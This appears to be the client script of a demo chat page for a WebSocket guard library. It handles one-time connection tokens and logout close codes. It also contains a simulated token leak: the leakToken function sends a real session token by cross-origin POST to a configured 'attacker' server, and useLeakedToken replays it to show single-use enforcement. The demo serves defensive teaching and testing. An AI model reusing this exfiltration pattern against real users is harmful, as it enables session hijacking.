// The chat page: logs in (a guest session), then stays connected through GuardedWebSocket
// (fastify-websocket-guard/client, served as /client.js), which fetches a fresh one-time token
// for every connection and follows the guard's close codes: after 4401 'session ended' (a
// logout, in this tab or another one of the session) it stops for good.
import { GuardedWebSocket, openGuardedWebSocket } from '/client.js'

const $ = (id) => document.getElementById(id)
const config = await (await fetch('/demo.json')).json()
$('attacker-link').href = config.attacker + '/'

/** the GuardedWebSocket of this tab, a new one after each login */
let chat = null
let leakedToken = null

function addLine (list, text, className) {
  const li = document.createElement('li')
  li.textContent = text
  if (className !== undefined) li.className = className
  list.append(li)
  list.scrollTop = list.scrollHeight
}

function setStatus (state, text) {
  $('status').className = 'status ' + state
  $('status').textContent = text
}

function life (text) {
  addLine($('messages'), text, 'life')
}

function onMessage (event) {
  const message = JSON.parse(event.data)
  if (message.type === 'welcome') $('who').textContent = 'as ' + message.name
  else if (message.type === 'joined') addLine($('messages'), `${message.name} joined`, 'system')
  else addLine($('messages'), `${message.name}: ${message.text}`)
}

const ENDED = {
  'session-ended': 'logged out',
  unauthorized: 'logged out',
  closed: 'closed',
  'retries-exhausted': 'gave up'
}

/** One GuardedWebSocket for this tab's session, shown as it lives. */
function keepConnected () {
  const socket = new GuardedWebSocket('/chat')
  socket.addEventListener('open', () => {
    setStatus('connected', 'connected')
    $('last-close').textContent = ''
    life(`socket open (${socket.protocol})`)
  })
  socket.addEventListener('message', onMessage)
  socket.addEventListener('close', (event) => {
    const closed = `${event.code} ${event.reason}`.trim()
    $('last-close').textContent = 'last close: ' + closed
    life('socket closed: ' + closed)
    if (socket.readyState !== GuardedWebSocket.CLOSED) setStatus('disconnected', 'reconnecting…')
  })
  socket.addEventListener('ended', (event) => {
    setStatus('disconnected', `${ENDED[event.reason]} (${event.reason})`)
    life(`ended: ${event.reason}, not reconnecting`)
    $('who').textContent = ''
    $('logout').disabled = true
    $('login').hidden = false
  })
  chat = socket
}

/** Logs in as a guest (the server keeps the session's user, if there is one), then connects. */
async function login () {
  const res = await fetch('/login', { method: 'POST' })
  const { name } = await res.json()
  life(`logged in as ${name}`)
  $('login').hidden = true
  $('logout').disabled = false
  setStatus('', 'connecting…')
  keepConnected()
  return name
}

/**
 * Logs out: the server destroys the session, and the guard closes this tab's socket and every
 * other one of the session with 4401. The page itself closes nothing: it shows what the server did.
 */
async function logout () {
  $('logout').disabled = true
  await fetch('/logout', { method: 'POST' })
}

$('send').addEventListener('submit', (event) => {
  event.preventDefault()
  if (chat !== null && chat.readyState === GuardedWebSocket.OPEN && $('text').value !== '') {
    chat.send($('text').value)
    $('text').value = ''
  }
})

/** Opens one more socket, with its own token (for the tests, and to poke at from the console). */
async function connect (transport = 'protocol') {
  const opened = await openGuardedWebSocket('/chat', { transport })
  opened.addEventListener('message', onMessage)
  return opened
}

/** Simulates a leak: a token for /chat, as this page would use next, handed to the attacker. */
async function leakToken () {
  const res = await fetch('/websocket-token?path=/chat', { credentials: 'same-origin' })
  leakedToken = (await res.json()).token
  // a cross-origin "simple" POST: the attacker's server receives it, we cannot read the answer
  await fetch(config.attacker + '/leak', { method: 'POST', mode: 'no-cors', body: leakedToken })
  addLine($('leak-log'), 'A token for /chat leaked to the attacker (watch the attacker page).')
  $('use-leaked').disabled = false
  return leakedToken
}

/**
 * Uses the leaked token for a socket of our own: it works once, if nobody used it before. The
 * simulation then tells the attacker it is spent, so that its page tries a replay.
 */
function useLeakedToken () {
  const url = new URL('/chat', location.href)
  url.protocol = 'ws:'
  return new Promise((resolve) => {
    const attempt = new WebSocket(url, ['websocket-guard', 'websocket-guard.' + leakedToken])
    attempt.addEventListener('open', () => {
      addLine($('leak-log'), 'The leaked token opened a socket for me: now it is spent.')
      attempt.close()
      fetch(config.attacker + '/leak/used', { method: 'POST', mode: 'no-cors' }).then(() => resolve(true), () => resolve(true))
    })
    attempt.addEventListener('error', () => {
      addLine($('leak-log'), 'The leaked token was refused: it had been used already.')
      resolve(false)
    })
  })
}

$('logout').addEventListener('click', () => { logout().catch(console.error) })
$('login').addEventListener('click', () => { login().catch(console.error) })
$('leak').addEventListener('click', () => { leakToken().catch(console.error) })
$('use-leaked').addEventListener('click', () => { useLeakedToken().catch(console.error) })

// for the end-to-end tests, and for poking at the demo from the console
window.demo = {
  connect,
  login,
  logout,
  leakToken,
  useLeakedToken,
  /** this tab's GuardedWebSocket */
  get socket () { return chat }
}
await login()
